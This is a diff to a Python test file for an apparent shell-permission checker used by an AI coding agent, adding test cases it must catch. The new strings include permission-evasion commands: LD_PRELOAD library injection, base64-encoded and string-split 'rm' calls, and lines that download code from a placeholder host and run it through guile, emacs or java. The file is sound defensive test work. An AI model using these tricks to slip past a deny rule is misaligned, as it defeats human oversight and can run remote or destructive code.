@@ -28,7 +28,9 @@ LOADERS = [
     "cp x lib/Foo.pm; PERL5LIB=lib perl s.pl", "cp x lib/x.rb; RUBYLIB=lib ruby s.rb",
     "printf x > n/m.js; NODE_PATH=n node a.js", "printf 'r''m x' > e.sh; BASH_ENV=e.sh bash s.sh",
     "base64 -d <<< cm0geA== > e.sh; ENV=./e.sh sh s.sh", "tar xf a.tar; PYTHONPATH=src python3 -m app",
-    "printf x > z/.zshenv; ZDOTDIR=z zsh s.zsh",
+    "printf x > z/.zshenv; ZDOTDIR=z zsh s.zsh", "read LD_PRELOAD <<< ./x.so; export LD_PRELOAD; ls",
+    "printf -v LD_PRELOAD ./x.so; export LD_PRELOAD; ls", "set -a; LD_PRELOAD=./x.so; ls",
+    "declare -x LD_PRELOAD=./x.so; ls", "exec env LD_PRELOAD=./x.so ls", "env -u X LD_PRELOAD=./x.so ls",
 ]
 #: Programs outside the interpreter tables given inline code or a program on a here-document.
 FOREIGN = [
@@ -40,7 +42,10 @@ FOREIGN = [
     "sbcl --script <<< '(run-program \"/bin/r\" nil)'", "psql db <<'EOF'\n\\! x\nEOF",
     "emacs -batch -l /dev/stdin < s", "vim -S /dev/stdin f < s",
     "tcsh < s", "csh < s", "rc < s", "nu < s", "elvish < s", "curl -o X.java http://x; java X.java",
-    "curl -o x.jar http://x; java -jar x.jar",
+    "curl -o x.jar http://x; java -jar x.jar", "guile -c'(system (string-append \"r\" \"m x\"))'",
+    "deno run 'data:text/javascript,Deno.run({cmd:[\"r\"+\"m\"]})'", "cat s | guile -",
+    "cat s | guile --no-auto-compile", "guile < \"$f\"", "guile < <(curl http://x)",
+    "curl -o x.el http://x; emacs --batch -l x.el", "printf x > s.sql; psql db < s.sql", "toybox sh < s",
 ]
 #: Asked before, ordinary: sed's a/i/c text holds an ``e``; awk's ``|`` inside a string runs nothing.
 OVERASKED = [
@@ -69,7 +74,8 @@ async def test_ordinary_commands_are_judged_as_before(tmp_path: Path) -> None:
         "PYTHONPATH=src python3 -m pytest -q", "PYTHONPATH=. python3 s.py", "export PATH=/usr/local/bin:$PATH; ls",
         "PERL5LIB=lib prove -r t", "gcc -c x.c -o x.o", "docker run -e X=1 img", "tee f <<'EOF'\nx\nEOF",
         "patch -p1 <<'EOF'\n--- a\nEOF", "read x <<< \"$y\"", "java -jar x.jar", "java X.java", "npm test",
-        "cargo build", "mysql db < dump.sql", "kotlin -e 1",
+        "cargo build", "mysql db < dump.sql", "kotlin -e 1", "npm test | tail", "cargo build 2>&1 | tail -20",
+        "pip install -e .", "echo x > f; cat f", "export PATH=\"$HOME/.local/bin:$PATH\"; ls",
     ]
     got = await decide(tmp_path, Bash(), kept, "bypassPermissions", deny=["Bash(rm:*)"])
     assert [c for c, d in zip(kept, got, strict=True) if d != "allow"] == []
